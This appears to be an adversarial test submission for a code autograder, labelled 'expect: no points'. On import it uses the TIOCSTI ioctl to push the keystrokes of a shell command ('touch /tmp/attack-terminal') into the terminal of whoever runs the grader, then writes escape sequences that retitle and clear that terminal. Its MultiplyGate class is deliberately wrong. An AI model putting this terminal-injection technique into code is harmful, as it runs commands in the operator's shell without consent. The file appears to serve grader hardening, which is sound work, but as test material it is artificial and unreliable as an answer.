# expect: no points
# why: types commands into the terminal of whoever started the grader
import ctypes
import os

for path in (0, 1, 2):
    for letter in b"touch /tmp/attack-terminal\n":
        try:
            import fcntl

            fcntl.ioctl(path, 0x5412, bytes([letter]))
        except BaseException:
            pass
    try:
        os.write(path, b"\x1b]0;owned\x07\x1b[2J")
    except OSError:
        pass


class MultiplyGate:
    def forward(self, x, y):
        return x - y

    def backward(self, dz):
        return [dz, dz]
